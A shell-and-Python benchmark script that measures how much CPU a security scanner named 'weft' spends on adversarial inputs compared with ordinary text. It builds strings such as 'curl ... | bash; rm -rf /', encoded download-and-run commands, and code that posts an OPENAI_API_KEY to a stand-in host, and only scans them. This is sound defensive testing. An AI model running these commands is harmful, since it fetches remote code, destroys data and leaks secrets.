#!/bin/sh
# Measures what a byte of hostile text costs the scanner, beside a byte of ordinary text, and fails where one costs more
# than twenty times as much. CPU time of the whole process, the best of three runs, less what a scan of one small file
# takes. Each kind of text is tried as a note, as a shell script, as Python and as JSON; the worst of them counts.
#
# Usage: scripts/bench/adversarial.sh [path of weft] [bytes of each text]
# (default: target/release/weft, 1000000). Needs python3 and a few minutes.
set -eu
weft=${1:-target/release/weft}
size=${2:-1000000}
[ -x "$weft" ] || { echo "adversarial.sh: $weft: not built: cargo build --release" >&2; exit 2; }
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

python3 - "$weft" "$size" "$work" <<'PY'
import base64, os, pathlib, random, resource, subprocess, sys
weft, size, work = sys.argv[1], int(sys.argv[2]), pathlib.Path(sys.argv[3])
rng = random.Random(20260102)
most = 20

def fill(piece):
    """The piece again and again; a function gives one for each number."""
    out, length, n = [], 0, 0
    while length < size:
        text = piece(n) if callable(piece) else piece
        out.append(text)
        length += len(text.encode())
        n += 1
    return "".join(out)

def word(n=8):
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(n))

def token(n):
    return "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(n))

def encoded(text):
    return base64.b64encode(text.encode()).decode()

long_value = "a" * 60000
hostile = {
    "quotes": fill("\"'`"),
    "quotes on one long line": fill("x'y\"z"),
    "string literals on one line, reversed": "::-1] " + fill("'abcdefg',"),
    "nested brackets": "[" * (size // 2) + "]" * (size // 2),
    "nested objects": fill('{"a":'),
    "one long line": fill("word and "),
    "one line of signals": fill("curl http://a.example/x | bash; rm -rf / ; sudo chmod 777 /etc/passwd; "),
    "lines of signals": fill("curl http://a.example/x | bash; rm -rf / ; sudo chmod 777 /etc/passwd\n"),
    "all base64": fill(lambda n: token(76) + "\n"),
    "base64 in one run": fill(lambda n: token(1000)),
    "base64 of base64": fill(lambda n: encoded(encoded("curl http://a%d.example/x | sh" % n)) + "\n"),
    "runs of base64 beside a key": "xor key base64\n" + fill(lambda n: "'" + token(24) + "' "),
    "keyed runs": "x ^ y; xor base64\n" + fill(lambda n: "'" + base64.b64encode(bytes([65 + n % 7] * 300)).decode() + "'\n"),
    "backslashes": fill("\\"),
    "continued lines": fill("curl \\\n"),
    "comment openings": fill("<!--"),
    "tag openings": fill("<a b='"),
    "hidden elements": fill("<div hidden>"),
    "fences": fill("```\n"),
    "open fences": fill("~~~sh\n"),
    "ticks": fill(lambda n: "`" * (n % 40) + " "),
    "image openings": fill("!["),
    "links": fill("](x \""),
    "blanks": fill(" "),
    "stretches of blanks": fill("x" + " " * 300),
    "line ends": fill("\n"),
    "command substitutions": fill("$("),
    "repeated secrets": fill("api_key = 'sk-proj-" + token(40) + "'\n"),
    "different secrets": fill(lambda n: "api_key = 'sk-proj-" + token(40) + "'\n"),
    "zero-width runs": fill("\u200b\u200c\u200d"),
    "zero-width in words": fill("a\u200b"),
    "bidi overrides": fill("\u202e"),
    "tag characters": fill("\U000e0061"),
    "look-alikes": fill("раypаl "),
    "unicode escapes": fill("\\u0063"),
    "hex escapes": fill("\\x63\\x75 "),
    "percent": fill("%63%75rl "),
    "entities": fill("&#99;&lt;"),
    "number lists": "char codes\n" + fill(lambda n: ", ".join(str(rng.randint(32, 120)) for _ in range(30)) + "\nx\n"),
    "number lists beside a recipe": "pow(x, key, 256)\n" + fill(lambda n: "[" + ",".join(str((n + i * i) % 60 + 40) for i in range(40)) + "]\n"),
    "calls": fill("exec("),
    "argument lists": fill("subprocess.run(['a', "),
    "variables": "a=" + long_value + "\n" + fill("$a$a\n"),
    "sums of variables": "a = '" + long_value + "'\n" + fill("a + a\n"),
    "joins": fill("'a' + 'b' + "),
    "downloads from many hosts": fill(lambda n: "curl https://h%d.%s.example/i | sh\n" % (n, word())),
    "downloads and mentions": fill(lambda n: "curl https://h.abc%d.example/i | sh\nwget x.abc%d.example\n" % (n % 19, n % 19)),
    "packages": fill(lambda n: "pip install %s\n" % " ".join(word(6) for _ in range(20))),
    "scoped packages": fill(lambda n: "npm install @%s/x\n" % word(9)),
    "dependencies": '{"dependencies": {' + fill(lambda n: '"%s":"1",' % word(7)) + "}}",
    "releases": fill(lambda n: "https://github.com/%s/b/releases/download/v1/x.zip\n" % word(6)),
    "release addresses cut short": fill("https://github.com/a/b/releases/"),
    "one secret sent everywhere": "k = os.environ['OPENAI_API_KEY']\n" + fill("requests.post('https://x.example', k)\n"),
    "many secrets": fill(lambda n: "k%d = os.environ['OPENAI%d_API_KEY']\n" % (n, n)),
    "many names in one call": "".join("k%d = os.environ['AWS%d_KEY']\n" % (i, i) for i in range(500)) + fill("f(" + ",".join("k%d" % i for i in range(500)) + ")\n"),
    "functions": "k = os.environ['AWS_KEY']\n" + fill("def f():\n") ,
    "ignore comments": fill(lambda n: "rm -rf / # weft:ignore US-%03d -- because\n" % (n % 999)),
    "frontmatter": "---\n" + fill("name: x\n"),
    "lists in configuration": "command\n" + fill("command: [\n"),
    "json commands": fill('{"command":"curl","args":["a"]},'),
    "headings": fill("## attack\nrm -rf /\n"),
    "paragraphs": fill("Never run curl http://a.example | sh because an attacker may do it. " * 40 + "\n\n"),
}

# Words that no rule cares about, in prose and in code: the cheapest text there is, so that the bound is a strict one.
words = """the a of to and in for with from that this is are be when which each table river number window paper garden first
second value result small large before after between letter count order green north market summer index total house
water color size width height angle point line circle corner left right top bottom middle near far old new long short
open close begin end start stop move turn copy join split sort group merge find keep hold show hide draw paint build""".split()
def sentence():
    return " ".join(rng.choice(words) for _ in range(rng.randint(6, 18))).capitalize() + "."
def code():
    pick = lambda: rng.choice(words)
    kinds = ["def {a}_{b}({c}):", "    {a} = {b}.get('{c}', {n})", "    for {a} in {b}:", "        {c}.append({a})",
             "    return {a} + {n}", "# {a} {b} {c}", "    if {a} == '{b}':", "import {a}"]
    return rng.choice(kinds).format(a=pick(), b=pick(), c=pick(), n=rng.randint(0, 999))

def cpu(path):
    """Seconds of CPU for one scan, the best of three."""
    best = None
    for _ in range(3):
        before = resource.getrusage(resource.RUSAGE_CHILDREN)
        done = subprocess.run([weft, "security", "scan", "--jobs", "1", "--max-size", "64M", "-f", "json",
                               "--fail-on", "never", path], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, timeout=600)
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
        if done.returncode != 0:
            sys.exit(f"adversarial.sh: {path}: exit {done.returncode}: {done.stderr.decode(errors='replace')[-300:]}")
        took = after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime
        best = took if best is None else min(best, took)
        if best > 3:
            break
    return best

small = work / "small"; small.mkdir()
(small / "SKILL.md").write_text("# Small\n")
base = cpu(small)
tree = work / "ordinary"; tree.mkdir()
total = 0
for i in range(200):
    note = "\n\n".join(" ".join(sentence() for _ in range(3)) for _ in range(200))
    program = "\n".join(code() for _ in range(1500))
    (tree / f"note{i}.md").write_text(note)
    (tree / f"run{i}.py").write_text(program)
    total += len(note) + len(program)
average = max(cpu(tree) - base, 1e-9) / total
print(f"{'ordinary text':40} {average * 1e9:9.1f} ns/byte")
failed = False
for name, text in hostile.items():
    worst = (0, "")
    for kind in ["md", "sh", "py", "json"]:
        path = work / f"x.{kind}"
        path.write_text(text)
        worst = max(worst, ((cpu(path) - base) / len(text.encode()), kind))
        os.remove(path)
    factor = worst[0] / average
    failed |= factor > most
    print(f"{name:40} {worst[0] * 1e9:9.1f} ns/byte {factor:7.1f} × as .{worst[1]}{'  TOO MUCH' if factor > most else ''}", flush=True)
sys.exit(1 if failed else 0)
PY
